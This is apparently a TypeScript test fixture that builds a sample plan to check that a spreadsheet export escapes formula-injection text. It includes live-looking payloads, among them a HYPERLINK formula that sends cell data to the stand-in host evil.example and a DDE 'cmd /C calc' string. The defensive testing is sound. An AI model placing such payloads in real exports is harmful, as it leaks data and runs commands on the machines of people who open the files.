import type { PlanView, TaskView } from '../../core/plan-view';

/** Text an owner could type that a spreadsheet would run as a formula if exported as is. */
export const HOSTILE = {
  equals: '=HYPERLINK("http://evil.example/?d="&A1,"Details")',
  plus: '+SUM(1,2)',
  minus: '-2+3+cmd|\' /C calc\'!A0',
  at: '@SUM(1,2)',
  tab: '\t=1+1',
  cr: '\r=1+1',
} as const;

const person = (name: string, id: string) => ({ aadObjectId: id, displayName: name, email: `${id}@example.gov.uk` });

function task(overrides: Partial<TaskView> & Pick<TaskView, 'id' | 'ref' | 'title'>): TaskView {
  return { kind: 'Priority', owners: [], overdue: false, rag: 'Green', status: 'Open', awaitingUpdate: false, ownerUnreachable: false, ...overrides };
}

/** A plan whose text fields carry every formula trigger, commas, quotes, line breaks and non-ASCII names. */
export const exportPlan: PlanView = {
  generatedAt: '2026-11-22T10:00:00.000Z',
  today: '2026-11-22',
  summary: { total: 4, byRag: { 'Not started': 0, Green: 1, Amber: 1, Red: 2, Complete: 0 }, byStatus: { Open: 4, Complete: 0, 'Carried forward': 0, Withdrawn: 0 }, overdue: 1, dueSoon: 1, dueSoonDays: 14, deadlinesToCheck: 0, awaitingUpdate: 1, pendingApprovals: 1, unreachableOwners: 0 },
  objectives: [
    {
      ref: '1',
      title: 'Understanding our communities',
      indicators: [
        {
          title: '1.1 Collecting and sharing information',
          tasks: [
            task({ id: 't1', ref: '1.1.1', title: HOSTILE.plus, owners: [person('Siân Llewellyn', 'sian')], dueDate: '2026-12-01', dueText: 'By 1 December 2026', latestUpdate: { text: HOSTILE.equals, at: '2026-11-20T09:30:00.000Z', by: '@Siân' }, pendingApproval: { proposedRag: 'Amber', approverName: 'Bob', requestedAt: '2026-11-20T09:30:00.000Z' } }),
            task({ id: 't2', ref: '1.1.2', title: 'Refresh the monitoring form, "quickly", with services', owners: [person('Bob Okafor', 'bob'), person('Carol Jones', 'carol')], rag: 'Red', dueDate: '2026-11-01', overdue: true, dueText: HOSTILE.minus, latestUpdate: { text: 'Line one,\nline two\u0007 with a bell', at: '2026-10-01T08:00:00.000Z' }, awaitingUpdate: true }),
          ],
        },
      ],
    },
    {
      ref: '2',
      title: 'A diverse workforce',
      indicators: [
        {
          title: null,
          tasks: [
            task({ id: 't3', ref: '2.1', title: HOSTILE.at, rag: 'Red', dueDate: '2027-03-31', accountableOfficer: { displayName: HOSTILE.tab, email: '' } }),
            task({ id: 't4', ref: '2.2', title: HOSTILE.cr, rag: 'Amber' }),
          ],
        },
      ],
    },
  ],
};
